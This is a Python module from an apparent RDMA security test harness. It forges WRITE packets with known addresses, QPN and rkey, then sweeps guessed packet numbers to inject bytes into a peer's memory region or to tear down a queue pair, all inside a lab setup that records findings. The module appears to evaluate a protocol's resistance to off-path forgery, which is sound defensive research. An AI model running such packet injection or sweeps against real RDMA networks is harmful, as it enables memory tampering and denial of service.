"""Forged requests under guessed packet numbers. The attacker knows addresses, QPN, rkey and
virtual address, which every observer sees; it has no key."""

from __future__ import annotations

import os

from srdma_attack.attack import Finding, Settings, outcome
from srdma_attack.lab import Counters, Lab, Pair, lab, until
from srdma_attack.sweep import NUMBERS, Sweep
from tests.reference import wire

EVIL = b"injected" * 8
THIN = 1 << 13  # numbers of a thin sweep, at equal distances
NEAR = 1 << 11  # numbers around the live one that a thin sweep also tries


def forged_write(pair: Pair, rkey: int) -> wire.Packet:
    """A WRITE into the region, as the next request of the client."""
    return wire.Packet(
        opcode=wire.Op.WRITE_ONLY,
        qpn=pair.server.qp_num,
        request_id=0,
        va=pair.region.addr,
        rkey=rkey,
        dma_len=len(EVIL),
        payload=EVIL,
    )


def inject(settings: Settings) -> Finding:
    """A WRITE into memory that the peer may write."""
    return _sweep(settings, right_rkey=True)


def kill(settings: Settings) -> Finding:
    """A WRITE with a wrong rkey, which ends a plain QP under the right number."""
    return _sweep(settings, right_rkey=False)


def _sweep(settings: Settings, *, right_rkey: bool) -> Finding:
    with lab(settings) as it:
        pair = it.pair()
        rkey = pair.region.rkey if right_rkey else pair.region.rkey ^ 0xFFFF
        counters = Counters(it.server)
        packet = it.forged(forged_write(pair, rkey))
        sent = _send(it, counters, packet, pair.client.info.pn, settings.full)
        harmed = not pair.untouched or not pair.works()
        return Finding(outcome(harmed), counters.rose(), f"{sent} packets")


def _send(it: Lab, counters: Counters, packet: bytes, live: int, full: bool) -> int:
    """Returns how many packets the victim took."""
    with Sweep(["udp", "0", str(it.server.wire[1])], packet) as sweep:

        def taken(n: int) -> None:
            until(lambda: counters.taken() >= n, f"{n} packets to arrive")

        if full:
            sweep.send_all(0, NUMBERS, 1, taken)
        else:
            sweep.send_all(os.getpid() % (NUMBERS // THIN), THIN, NUMBERS // THIN, taken)
            sweep.send_all((live - NEAR // 2) % NUMBERS, NEAR, 1, taken)
        return sweep.sent
